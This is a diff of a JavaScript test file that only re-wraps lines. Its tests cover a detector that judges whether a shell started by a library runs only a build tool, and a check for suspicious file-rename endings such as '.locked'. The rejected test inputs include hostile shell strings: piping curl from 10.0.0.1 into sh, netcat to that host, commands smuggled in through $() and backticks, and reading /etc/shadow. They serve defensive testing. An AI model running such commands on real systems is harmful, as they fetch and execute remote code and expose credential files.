@@ -19,15 +19,16 @@ describe('a program that a library runs by itself', () => {
     expect(isBuildTool(shell(command))).toBe(true)
   })
 
-  it.each(['gcc -v; curl 10.0.0.1 | sh', 'uname -a > /tmp/x', 'nvidia-smi & nc 10.0.0.1 9', 'uname $(curl 10.0.0.1)',
-    'uname `id`', 'uname\ncurl 10.0.0.1', 'gcc -v || wget x', 'curl 10.0.0.1', '', 'X=1', 'sh -c uname', 'cat < /etc/shadow'])(
+  it.each(['gcc -v; curl 10.0.0.1 | sh', 'uname -a > /tmp/x', 'nvidia-smi & nc 10.0.0.1 9',
+    'uname $(curl 10.0.0.1)', 'uname `id`', 'uname\ncurl 10.0.0.1', 'gcc -v || wget x',
+    'curl 10.0.0.1', '', 'X=1', 'sh -c uname', 'cat < /etc/shadow'])(
     'is not a shell that does more, or other things: %j', (command) => {
       expect(isBuildTool(shell(command))).toBe(false)
     })
 
   it('is not a shell without a command, nor another program', () => {
-    for (const process of [ran('/bin/bash', 'bash'), ran('/bin/bash', 'bash', '-i'), ran('/usr/bin/curl', 'curl', 'gcc'),
-      ran('', '')]) {
+    for (const process of [ran('/bin/bash', 'bash'), ran('/bin/bash', 'bash', '-i'),
+      ran('/usr/bin/curl', 'curl', 'gcc'), ran('', '')]) {
       expect(isBuildTool(process)).toBe(false)
     }
   })
@@ -62,9 +63,9 @@ describe('a rename', () => {
     expect(addedEnding(from, to)).toBe(ending)
   })
 
-  it.each([['/m/a.bin.tmp', '/m/a.bin'], ['/m/a.bin', '/m/a.bin.bak'], ['/m/a.bin', '/n/a.bin'], ['/m/a', '/m/b.locked'],
-    ['/m/a.bin', '/m/a.bin.1'], ['/m/log', '/m/log.2.gz'], ['', '/m/a.locked'], ['/m/a', '/m/.locked'],
-    ['/m/a.locked', '/m/b.locked'], ['/m/a', '/m/a.'], ['/m/model.partial', '/m/model.safetensors']])(
+  it.each([['/m/a.bin.tmp', '/m/a.bin'], ['/m/a.bin', '/m/a.bin.bak'], ['/m/a.bin', '/n/a.bin'],
+    ['/m/a', '/m/b.locked'], ['/m/a.bin', '/m/a.bin.1'], ['/m/log', '/m/log.2.gz'], ['', '/m/a.locked'],
+    ['/m/a', '/m/.locked'], ['/m/a.locked', '/m/b.locked'], ['/m/a', '/m/a.'], ['/m/model.partial', '/m/model.safetensors']])(
     'from %s to %s is ordinary', (from, to) => {
       expect(addedEnding(from, to)).toBe('')
     })
